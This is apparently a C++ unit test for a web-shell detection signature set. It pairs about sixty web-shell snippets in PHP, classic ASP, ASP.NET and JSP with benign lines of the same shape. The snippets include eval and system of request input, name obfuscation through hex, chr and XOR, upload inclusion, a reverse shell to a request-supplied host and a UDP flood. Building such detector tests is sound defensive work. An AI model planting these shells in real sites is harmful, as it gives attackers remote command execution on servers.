// The shipped list against shells written by technique, each beside an ordinary line of the same
// shape that must not be flagged: comments and aliases between a sink and its source, callbacks
// named by a string, uploads run or put where the request says, and the ASP, ASP.NET and JSP
// forms of the same.
#include <gtest/gtest.h>

#include <iterator>
#include <string>

#include "webguard/signature_set.h"

namespace {

const char* const kShippedSignatures[] = {
#include "signatures.inc"
};

const CSignatureSet& ShippedSet() {
  static CSignatureSet set;
  static const bool built = set.Update(kShippedSignatures, static_cast<int>(std::size(kShippedSignatures)));
  EXPECT_TRUE(built);
  return set;
}

struct CTwin {
  const char* technique;
  std::string shell;     // must be found
  std::string ordinary;  // must not
};

const CTwin kTwins[] = {
    // A comment or a wrapper between the sink and the request.
    {"line comment", "<?php eval( // x\n$_POST['x']);", "<?php $x = $_POST['x']; // eval( later\necho htmlspecialchars($x);"},
    {"hash comment", "<?php eval(\n# x\n$_POST['x']);", "<?php\n# eval( is never used here\n$v = (int)$_POST['n'];"},
    {"block comment", "<?php eval/* a */(/* b */$_POST['x']);", "<?php /* eval( */ $n = intval($_POST['n']);"},
    {"long comment", "<?php eval(/*" "                                                          "
                     "                                                                          "
                     "                                                                          "
                     "                                                                          */$_POST['z']);",
     "<?php /* evaluation of the form */ $score = (int) $_POST['score'];"},
    {"wrappers", "<?php @eval(base64_decode(trim($_POST['x'])));", "<?php $name = base64_decode(trim($_POST['name']));"},
    {"create_function", "<?php $f = create_function('', $_REQUEST['c']); $f();",
     "<?php $f = function () { return $_REQUEST['c'] ?? ''; };"},
    {"assert of the cookie", "<?php assert($_COOKIE['k']);", "<?php $lang = trim(@$_COOKIE['lang']);"},
    {"eval of the header", "<?php eval($_SERVER['HTTP_X_CODE']);", "<?php $agent = $_SERVER['HTTP_USER_AGENT'];"},
    {"eval of the body", "<?php eval(file_get_contents('php://input'));", "<?php $body = json_decode(file_get_contents('php://input'), true);"},
    {"evaluation in a word", "<?php eval(gzinflate(base64_decode($_POST['p'])));", "<p>The evaluation($_POST) of the results.</p>"},
    // The request held in a variable first.
    {"request aliased", "<?php $q=$_GET; $fn=$q['f']; $fn($q['c']);", "<?php $q=$_GET; $id=$q['id']; echo intval($q['page']);"},
    {"request aliased post", "<?php $p=$_POST; $a=$p['a']; $a($p['b']);", "<?php $p=$_POST; $a=$p['a']; echo $a;"},
    // Callbacks named by a string.
    {"array_map", "<?php array_map(\"ass\".\"ert\", array($_REQUEST[\"x\"]));", "<?php $ids = array_map('intval', $_REQUEST['ids']);"},
    {"shutdown function", "<?php register_shutdown_function('system', $_GET['c']);", "<?php register_shutdown_function('flush_log', $log);"},
    {"array_filter", "<?php array_filter(array($_POST['c']), 'assert');", "<?php $rows = array_filter($_POST['rows'], 'strlen');"},
    {"uasort", "<?php uasort($arr, 'assert'); $arr = array($_POST['x'] => 1);",
     "<?php uasort($arr, 'strcmp'); $arr = array($_POST['x'] => 1);"},
    {"call_user_func", "<?php call_user_func($_GET['f'], $_POST['c']);", "<?php call_user_func($callback, $_POST['c']);"},
    {"call_user_func_array", "<?php call_user_func_array($_REQUEST['f'], array($_REQUEST['a']));",
     "<?php call_user_func_array(array($this, 'save'), array($_REQUEST['a']));"},
    {"function_exists", "<?php if(function_exists('shell_exec')&&function_exists('passthru')){passthru($_GET['c']);}",
     "<?php if (function_exists('shell_exec')) { $ok = true; }"},
    {"variable function of the form", "<?php $_GET['f']($_POST['c']);", "<?php foreach ($filters as $k => $f) { $v[$k] = $f($_POST[$k]); }"},
    // preg_replace /e.
    {"preg_replace /e", "<?php preg_replace('#.#e', $_REQUEST['c'], 'x');", "<?php preg_replace('#.#u', '', $_REQUEST['c']);"},
    {"preg_replace /e slashes", "<?php preg_replace(\"/x/e\", $_POST['c'], \"x\");", "<?php preg_replace(\"/x/i\", $_POST['c'], \"x\");"},
    // Uploads.
    {"include of the upload", "<?php include $_FILES['f']['tmp_name'];", "<?php $size = filesize($_FILES['f']['tmp_name']);"},
    {"require of the upload", "<?php require_once($_FILES['f']['tmp_name']);", "<?php require_once('upload.php'); $f = $_FILES['f'];"},
    {"upload to the request's path", "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_GET['d']);",
     "<?php move_uploaded_file($_FILES['f']['tmp_name'], $dir . basename($_FILES['f']['name']));"},
    {"request text written and included", "<?php file_put_contents('t.php', $_POST['c']); include 't.php';",
     "<?php file_put_contents($cache, serialize($data)); include 'footer.php';"},
    // Command runners.
    {"system", "<?php system($_GET['c']);", "<?php $sys = 'system'; $c = $_GET['c'];"},
    {"system with a comment", "<?php system(/* c */ $_REQUEST['c']);", "<?php $x = $_REQUEST['c']; $sys = 'system';"},
    {"exec", "<?php exec($_POST['c'], $out);", "<?php $db->exec($sql); $id = (int)$_POST['id'];"},
    {"passthru", "<?php passthru(stripslashes($_POST['c']));", "<?php $cmd = escapeshellarg($_POST['file']);"},
    {"shell_exec", "<?php echo shell_exec($_REQUEST['c']);", "<?php $can = function_exists('shell_exec');"},
    {"popen", "<?php $h = popen($_GET['c'], 'r');", "<?php $h = fopen($file, 'r'); $c = $_GET['c'];"},
    {"proc_open", "<?php proc_open($_POST['c'], $d, $p);", "<?php $p = proc_open('ls', $d, $pipes);"},
    {"pcntl_exec", "<?php pcntl_exec($_POST['bin'], array($_POST['a']));", "<?php $pid = pcntl_fork(); $a = $_POST['a'];"},
    // Classic ASP.
    {"Execute after a colon", "<% a = Request.Form(\"z\") : Execute(a) %>", "<% a = Request.Form(\"z\") : conn.Execute(sql) %>"},
    {"ExecuteGlobal", "<% ExecuteGlobal Request(\"c\") %>", "<% Response.Write Request(\"page\") %>"},
    {"Execute of the query string", "<% Execute(Request.QueryString(\"c\")) %>", "<% id = CInt(Request.QueryString(\"id\")) %>"},
    {"Eval of a form field", "<% eval (Request.Item(\"c\")) %>", "<% Response.Write(Request.Form(\"email\")) %>"},
    {"Execute on the next statement", "<% x = Request(\"x\")\n Execute(x) %>", "<% x = Request(\"x\")\n Response.Write(x) %>"},
    // ASP.NET.
    {"ProcessStartInfo initialiser",
     "<% var p = new ProcessStartInfo { FileName = Request[\"f\"], Arguments = Request[\"a\"] }; Process.Start(p); %>",
     "<% var psi = new System.Diagnostics.ProcessStartInfo(\"report.exe\"); lblTitle.Text = Request[\"title\"]; %>"},
    {"ProcessStartInfo file name", "<% ProcessStartInfo i = new ProcessStartInfo(); i.FileName = Request.Form[\"f\"]; %>",
     "<% ProcessStartInfo i = new ProcessStartInfo(); i.FileName = \"cmd\"; x = Request.Form[\"f\"]; %>"},
    {"Process.Start of the request", "<% Process.Start(Request.QueryString[\"c\"]); %>",
     "<% Process.Start(\"notepad.exe\"); var q = Request.QueryString[\"c\"]; %>"},
    {"JScript eval", "<%@ Page Language=\"Jscript\"%><% eval(Request.Item[\"z\"], \"unsafe\"); %>",
     "<%@ Page Language=\"Jscript\"%><% var z = Request.Item[\"z\"]; Response.Write(z); %>"},
    // JSP.
    {"Runtime held in a variable",
     "<% String x = request.getParameter(\"c\"); Runtime r = Runtime.getRuntime(); r.exec(x); %>",
     "<% String cmd = request.getParameter(\"cmd\"); Process p = Runtime.getRuntime().exec(\"/usr/bin/uptime\"); %>"},
    {"Runtime.exec of the parameter", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
     "<% out.write(request.getParameter(\"callback\")); %>"},
    {"ProcessBuilder", "<% new ProcessBuilder(request.getParameter(\"c\").split(\" \")).start(); %>",
     "<% new ProcessBuilder(\"ls\", \"-l\").start(); String c = request.getParameter(\"c\"); %>"},
    {"Runtime, the header", "<% String h = request.getHeader(\"X\"); Runtime rt = Runtime.getRuntime(); rt.exec(h); %>",
     "<% String h = request.getHeader(\"X\"); out.print(h); %>"},
    // Packed payloads and names spelled otherwise.
    {"eval of an unpacked payload", "<?php $p = $_COOKIE['p']; @eval(gzinflate(str_rot13($p)));",
     "<?php $p = gzinflate(base64_decode($blob)); echo evaluate($p);"},
    {"name in hexadecimal escapes", "<?php $f = \"\\x61\\x73\\x73\\x65\\x72\\x74\"; $f($_POST['x']);",
     "<?php $sep = \"\\x2c\\x20\"; echo implode($sep, $list);"},
    {"name in chr() pieces", "<?php $f = chr(101).chr(118).chr(97).chr(108); $f($_POST['x']);",
     "<?php $nl = chr(13).chr(10); echo $nl;"},
    {"function named by the request", "<?php $_REQUEST['f'](stripslashes($_REQUEST['c']));",
     "<?php $handlers[$_REQUEST['action']] ?? 'index';"},
    {"VBScript Execute of a reversed string", "<% Execute(StrReverse(Request(\"c\"))) %>",
     "<% s = StrReverse(Request(\"name\")) : Response.Write s %>"},
    {"JSP script engine", "<% new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(request.getParameter(\"c\")); %>",
     "<% Object total = new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"1 + 2\"); %>"},
    {"reverse shell", "<?php $s = fsockopen($_GET['h'], 4444); proc_open('/bin/sh -i', array(0=>$s, 1=>$s, 2=>$s), $p);",
     "<?php $s = fsockopen('mail.example.com', 25); fwrite($s, \"HELO x\\r\\n\");"},
    // A sink of a variable, the request read elsewhere; tools shells carry.
    {"eval of a variable", "<?php $c = $_POST['c'];\n$d = str_replace('x', '', $c);\n@eval($d);",
     std::string("<?php $c = $_POST['c'];\n$v = eval('return 1;');\n") + std::string(600, ' ')},
    {"upload into the request's folder", "<?php $d = $_POST['dir'];\nmove_uploaded_file($_FILES['f']['tmp_name'], $d . '/' . $n);",
     "<?php move_uploaded_file($tmp, UPLOAD_DIR . $name);\n$page = $_POST['page'];"},
    {"UDP flood", "<?php $h = $_GET['host']; $s = fsockopen(\"udp://$h\", $p);",
     "<?php $h = $_GET['host']; $s = fsockopen(\"tcp://$h\", 80);"},
    // One-liners: a request read beside a sink or a variable call is the whole file.
    {"one-liner variable call", "<?php $a = str_replace('x', '', 'axsxsxexrxt'); $a($_POST['k']); ?>",
     "<?php $q = htmlspecialchars($_GET['q'] ?? ''); echo $q; ?>"},
    {"one-liner XOR name", "<?php $_ = ('%01' ^ '`') . ('%13' ^ '`'); $__ = $_REQUEST['x']; ?>",
     "<?php $mask = $flags ^ 0x0F; $r = $_REQUEST['x']; ?>"},
    {"pair in a large file", "<?php @eval($_POST['x']); ?>",
     "<?php $v = $_POST['name'];\n/* the input is checked with assert-like rules below */\n"
     "                                                                                                    "
     "                                                                                                    "
     "                                                                                                    "
     "                                                                                                    "
     "                                                                                                    "
     "                                                                                                    "
     "?>"},
    // Texts that name shells.
    {"page about shells", "<?php @eval($_POST['cmd']);?>", "<p>一句话木马 and Rasputin are names of web shells.</p>"},
    {"change log", "<?php eval($_REQUEST[1]);", "* Fixed: the scanner now finds the Rasputin shell (issue tracker)."},
    {"comment after an address", "<?php $u = 'http://x/'; eval($_POST['a']);", "<?php $u = 'http://x/'; // eval($_POST) is never done\n"},
};

TEST(SignatureTechniques, ShellsAreFoundAndTheirOrdinaryTwinsAreNot) {
  ASSERT_GE(std::size(kTwins), 50u);
  for (const CTwin& twin : kTwins) {
    EXPECT_TRUE(ShippedSet().Matches(twin.shell)) << twin.technique << ": missed " << twin.shell;
    EXPECT_FALSE(ShippedSet().Matches(twin.ordinary)) << twin.technique << ": flagged " << twin.ordinary;
  }
}

}  // namespace
